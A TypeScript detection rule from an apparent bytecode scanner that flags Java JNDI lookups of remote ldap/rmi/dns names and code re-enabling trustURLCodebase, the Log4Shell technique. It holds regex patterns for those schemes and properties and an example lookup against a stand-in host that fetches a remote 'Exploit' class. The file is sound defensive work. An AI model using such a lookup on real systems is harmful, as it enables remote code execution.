import type { JavaRule } from '../engine.js';
import { decodeBase64, knownString, printable } from '../interpret.js';
import { java, renderCall } from './helpers.js';

const REMOTE_JNDI = /^(ldaps?|rmi|dns|iiop|corbaname|nis|nds):\/\//i;
const TRUST_PROPS = /^com\.sun\.jndi\.(ldap|rmi|cosnaming)\.object\.trust(URLCodebase|SerialData)$/;

/** Flags JNDI lookups of remote ldap:/rmi: names and switching on remote codebase trust. */
export const jndiLookup: JavaRule = {
  meta: {
    ...java,
    id: 'JAVA-007',
    name: 'java-jndi-remote-lookup',
    category: 'backdoor',
    severity: 'high',
    confidence: 'high',
    description:
      'Bytecode performs a JNDI lookup of a remote ldap://, rmi:// or dns:// name, or enables com.sun.jndi.*.trustURLCodebase.',
    rationale:
      'A JNDI lookup of an attacker LDAP/RMI server makes the JVM download and instantiate a remote class (the Log4Shell technique); a library that does it on purpose is a loader.',
    falsePositives:
      'Application servers and JNDI-aware frameworks look up names from configuration (not reported unless the name is a remote URL constant). Log4j 2 contains a JndiManager with non-constant names.',
    example: 'new InitialContext().lookup("ldap://192.0.2.1:1389/Exploit")',
    references: [
      'https://www.blackhat.com/docs/us-16/materials/us-16-Munoz-A-Journey-From-JNDI-LDAP-Manipulation-To-RCE.pdf',
      'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
    ],
  },
  create(ctx) {
    return {
      call(call, m) {
        const { owner, name } = call.ref;
        if (owner === 'java/lang/System' && name === 'setProperty') {
          const key = knownString(call.args[0]);
          if (key && TRUST_PROPS.test(key) && knownString(call.args[1])?.toLowerCase() === 'true') {
            ctx.report({
              at: m,
              pc: call.pc,
              code: renderCall(call),
              category: 'evasion',
              message: `Re-enables remote class loading for JNDI (${key}=true), a Log4Shell-style precondition.`,
              evidence: { property: key },
            });
          }
          return;
        }
        if (!owner.startsWith('javax/naming/') || (name !== 'lookup' && name !== 'lookupLink')) return;
        const target = knownString(call.args[0]);
        if (!target || !REMOTE_JNDI.test(target)) return;
        // Exploit kits (JNDIExploit) carry the command Base64-encoded in the name: show it.
        const encoded = /\/Base64\/([A-Za-z0-9+/=_-]{4,})/i.exec(target)?.[1];
        const decoded = encoded ? printable(decodeBase64(encoded) ?? Buffer.alloc(0)) : undefined;
        ctx.report({
          at: m,
          pc: call.pc,
          code: renderCall(call),
          message: `JNDI lookup of a remote name ${target.slice(0, 120)}: the JVM will fetch and instantiate what that server returns${decoded ? ` (encoded command: \`${decoded.slice(0, 100)}\`)` : ''}.`,
          evidence: { name: target, decodedCommand: decoded },
          iocs: [target],
        });
      },
    };
  },
};
